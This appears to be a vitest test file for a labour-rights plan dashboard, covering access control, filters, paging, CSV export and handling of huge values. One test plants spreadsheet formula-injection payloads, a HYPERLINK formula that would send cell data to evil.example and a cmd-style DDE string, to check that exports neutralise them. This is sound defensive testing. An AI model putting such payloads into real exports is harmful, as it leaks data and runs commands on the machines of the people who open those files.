import { sql } from 'kysely'
import { describe, expect, it } from 'vitest'
import { createPlan } from '#tests/factories/index.ts'
import * as MeasurementRepository from '#db/repositories/measurements.ts'
import * as ItemRepository from '#db/repositories/worksheet-items.ts'
import { args, call, createUserWithSession, makeRequest } from '#tests/utils.ts'
import { loadPlanSignoff } from '../signoff/signoff.server.ts'
import { getDb } from '../utils/db.server.ts'
import { loader as measurementsCsv } from './dashboard.measurements[.]csv.ts'
import { loader as plansCsv } from './dashboard.plans[.]csv.ts'
import { loader } from './dashboard.tsx'

const db = getDb()

async function world() {
  const { user: lead } = await createUserWithSession(db)
  const palm = await createPlan(db, lead.id, {
    title: 'Palm oil',
    countryCode: 'ID',
    sectors: ['A'],
    startDate: '2026-01-01',
    endDate: '2027-12-31',
  })
  const port = await createPlan(db, lead.id, {
    title: 'Port',
    countryCode: 'MG',
    sectors: ['A', 'H'],
    startDate: '2024-01-01',
    endDate: '2024-12-31',
  })
  const insert = (planId: string, kind: string, refPrefix: string, data: Record<string, unknown>) =>
    ItemRepository.insert(db, { planId, kind, refPrefix, data, actorId: lead.id })
  const issue = await insert(palm.id, 'issue', 'I', { title: 'Casual work', issueType: 'employment_status' })
  const target = await insert(palm.id, 'target', 'T', { name: 'Estates' })
  const pair = await insert(palm.id, 'pair', 'P', { issue: issue.id, target: target.id })
  await insert(palm.id, 'priority_decision', 'PD', { pairs: [pair.id], rationale: 'Highest score' })
  const k1 = await insert(palm.id, 'indicator', 'K', {
    name: 'Compliance',
    indicatorType: 'compliance',
    unit: 'percent',
    baselineValue: 38,
    targetValue: 60,
  })
  await MeasurementRepository.insertMany(db, {
    planId: palm.id,
    actorId: lead.id,
    rows: [
      {
        indicatorId: k1.id,
        period: '2026-Q2',
        periodEnd: '2026-06-30',
        value: 44,
        note: null,
        evidenceSource: 'Survey',
      },
    ],
  })
  const { cookie: reviewer } = await createUserWithSession(db, { constituency: 'ilo', globalRole: 'ilo_reviewer' })
  return { palm, port, reviewer }
}

const open = (cookie: string, query = '') => call(() => loader(args(makeRequest(`/dashboard${query}`, { cookie }))))

describe('the cross-country dashboard', () => {
  it('is only for ILO reviewers and administrators', async () => {
    const { user: lead, cookie } = await createUserWithSession(db)
    await createPlan(db, lead.id)
    expect((await open(cookie)).status).toBe(403)
    const { cookie: admin } = await createUserWithSession(db, { globalRole: 'admin' })
    expect((await open(admin)).status).toBe(200)
  })

  it('lists every plan with its priority, indicators and aggregates', async () => {
    const { palm, reviewer } = await world()
    const res = await open(reviewer)
    expect(res.data.total).toBe(2)
    const row = res.data.rows.find((r: { id: string }) => r.id === palm.id)
    expect(row).toMatchObject({
      issueTitle: 'Casual work',
      issueType: 'employment_status',
      indicators: 1,
      complianceChange: 6,
    })
    expect(res.data.aggregates).toMatchObject({ plans: 2, complianceChange: 6, plansWithComplianceData: 1 })
    expect(res.data.aggregates.byIssueType.map((g: { key: string }) => g.key).sort()).toEqual([
      'employment_status',
      'none',
    ])
  })

  it('filters by country, sector, issue type, status and year, and ignores malformed values', async () => {
    const { palm, port, reviewer } = await world()
    const ids = async (q: string) => (await open(reviewer, q)).data.rows.map((r: { id: string }) => r.id)
    expect(await ids('?country=MG')).toEqual([port.id])
    expect(await ids('?sector=H')).toEqual([port.id])
    expect(await ids('?issueType=employment_status')).toEqual([palm.id])
    expect(await ids('?year=2024')).toEqual([port.id])
    expect(await ids('?status=approved')).toEqual([])
    expect((await ids('?country=ZZZ&year=banana&sort=evil&page=-3')).length).toBe(2)
    expect(await ids('?sort=title&dir=asc')).toEqual([palm.id, port.id])
  })

  it('counts sub-steps complete, indicators on track and workers reached, and groups by country and sector', async () => {
    const { palm, port, reviewer } = await world()
    const lead = (
      await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()
    ).user_id
    const workers = await ItemRepository.insert(db, {
      planId: palm.id,
      kind: 'indicator',
      refPrefix: 'K',
      data: {
        name: 'Workers',
        indicatorType: 'output',
        unit: 'count',
        baselineValue: 0,
        targetValue: 8000,
        countsWorkersReached: true,
      },
      actorId: lead,
    })
    await MeasurementRepository.insertMany(db, {
      planId: palm.id,
      actorId: lead,
      rows: [
        {
          indicatorId: workers.id,
          period: '2026-Q2',
          periodEnd: '2026-06-30',
          value: 3100,
          note: null,
          evidenceSource: null,
        },
      ],
    })
    await ItemRepository.insert(db, {
      planId: port.id,
      kind: 'mandate',
      refPrefix: 'M',
      data: { name: 'Labour code' },
      actorId: lead,
    })
    // Completeness is stored whenever a plan's pages run the progress rules (the overview does so).
    await loadPlanSignoff(db, palm.id)
    await loadPlanSignoff(db, port.id)
    const res = await open(reviewer, '?sort=progress&dir=desc')
    // issue + target (2.1) and pair + decision (2.2) are complete; a lone mandate without a limit is not.
    expect(res.data.rows.map((r: { id: string }) => r.id)).toEqual([palm.id, port.id])
    expect(res.data.rows[0]).toMatchObject({
      substepsComplete: 2,
      substepsAgreed: 0,
      indicators: 2,
      onTrack: 2,
      workersReached: 3100,
    })
    expect(res.data.rows[1]).toMatchObject({
      substepsComplete: 0,
      substepsAgreed: 0,
      indicators: 0,
      onTrack: 0,
      workersReached: 0,
      complianceChange: null,
    })
    const a = res.data.aggregates
    expect(a).toMatchObject({ plans: 2, indicators: 2, onTrack: 2, onTrackShare: 1, workersReached: 3100 })
    expect(a.byCountry).toEqual([
      { key: 'ID', plans: 1, indicators: 2, onTrack: 2, workersReached: 3100, complianceChange: 6 },
      { key: 'MG', plans: 1, indicators: 0, onTrack: 0, workersReached: 0, complianceChange: null },
    ])
    expect(a.bySector.map((g: { key: string; plans: number }) => [g.key, g.plans])).toEqual([
      ['A', 2],
      ['H', 1],
    ])
    expect(a.byStatus).toEqual([{ key: 'draft', plans: 2 }])
  })

  it('pages through many plans with their total, sorted in the database, and clamps a page past the end', async () => {
    const { reviewer } = await world()
    await db
      .insertInto('plans')
      .values(
        Array.from({ length: 51 }, (_, n) => ({
          title: `Bulk ${String(n).padStart(2, '0')}`,
          country_code: 'FJ',
          region: null,
          sectors: ['C'],
          scope: 'national' as const,
          start_date: '2026-01-01',
          end_date: '2026-12-31',
          working_language: 'en' as const,
        })),
      )
      .execute()
    const first = await open(reviewer, '?country=FJ&sort=title&dir=desc')
    expect(first.data).toMatchObject({ total: 51, page: 1, pages: 2 })
    expect(first.data.rows).toHaveLength(50)
    expect(first.data.rows[0].title).toBe('Bulk 50')
    const second = await open(reviewer, '?country=FJ&sort=title&dir=desc&page=2')
    expect(second.data.rows.map((r: { title: string }) => r.title)).toEqual(['Bulk 00'])
    const past = await open(reviewer, '?country=FJ&sort=title&dir=desc&page=9')
    expect(past.data.page).toBe(2)
    expect(past.data.rows).toHaveLength(1)
  })

  it('exports the table and the measurements as CSV', async () => {
    const { reviewer } = await world()
    const table = await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv?country=ID', { cookie: reviewer }))))
    expect(table.data).toContain('Palm oil')
    expect(table.data).not.toContain('Port')
    const measurements = await call(() =>
      measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))),
    )
    expect(measurements.data.split('\r\n')[1]).toContain('2026-Q2')
  })

  it('exports titles and notes that look like formulas as inert text', async () => {
    const { palm, reviewer } = await world()
    const lead = (
      await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()
    ).user_id
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    await db.updateTable('plans').set({ title: evil }).where('id', '=', palm.id).execute()
    const k = await ItemRepository.insert(db, {
      planId: palm.id,
      kind: 'indicator',
      refPrefix: 'K',
      data: { name: '+SUM(A1)', indicatorType: 'output', unit: 'other' },
      actorId: lead,
    })
    const notes = ['@SUM(1+1)*cmd|x', '+1+cmd', '-2+3']
    await MeasurementRepository.insertMany(db, {
      planId: palm.id,
      actorId: lead,
      rows: notes.map((note, n) => ({
        indicatorId: k.id,
        period: `${2026 + n}`,
        periodEnd: `${2026 + n}-12-31`,
        value: -3,
        note,
        evidenceSource: '\t=1',
      })),
    })
    const table = (
      await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv?country=ID', { cookie: reviewer }))))
    ).data as string
    expect(table).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`)
    expect(table).not.toMatch(/(^|,)"?=HYPERLINK/m)
    const lines = (
      (await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer })))))
        .data as string
    ).split('\r\n')
    const mine = lines.filter((l) => l.includes('+SUM(A1)'))
    expect(mine).toHaveLength(3)
    for (const [n, line] of mine.entries()) {
      expect(line).toContain(`,'+SUM(A1),other,${2026 + n},${2026 + n}-12-31,-3,`)
      expect(line).toContain(`,'${notes[n]},'\t=1`)
      expect(line.startsWith(`${palm.id},"'=HYPERLINK`)).toBe(true)
    }
  })

  it('still answers when measurements recorded before the range check hold the largest doubles', async () => {
    const { palm, port, reviewer } = await world()
    const lead = (
      await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()
    ).user_id
    const workers = {
      name: 'Workers',
      indicatorType: 'output',
      unit: 'count',
      baselineValue: 0,
      targetValue: 8000,
      countsWorkersReached: true,
    }
    const huge = 1.7976931348623157e308
    const rows: { plan_id: string; indicator_id: string; period: string; period_end: string; value: number }[] = []
    for (const plan of [palm, port]) {
      const k = await ItemRepository.insert(db, {
        planId: plan.id,
        kind: 'indicator',
        refPrefix: 'K',
        data: workers,
        actorId: lead,
      })
      rows.push({ plan_id: plan.id, indicator_id: k.id, period: '2026', period_end: '2026-12-31', value: huge })
    }
    // The database refuses such a value now; rows from before the check are kept as they were.
    await expect(db.insertInto('measurements').values(rows[0]!).execute()).rejects.toThrow(/measurements_value_range/)
    await db.transaction().execute(async (trx) => {
      await sql`ALTER TABLE measurements DROP CONSTRAINT measurements_value_range`.execute(trx)
      await trx.insertInto('measurements').values(rows).execute()
      await sql`ALTER TABLE measurements ADD CONSTRAINT measurements_value_range CHECK (value BETWEEN -1e12 AND 1e12) NOT VALID`.execute(
        trx,
      )
    })
    const res = await open(reviewer)
    expect(res.status).toBe(200)
    // Summed exactly, the figures lie beyond what a double holds, so the page shows them as ∞.
    expect(res.data.aggregates.workersReached).toBe(Infinity)
    for (const group of res.data.aggregates.byCountry) expect(group.workersReached).toBeGreaterThanOrEqual(huge)
    const csv = await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv', { cookie: reviewer }))))
    expect(csv.status).toBe(200)
  })
})
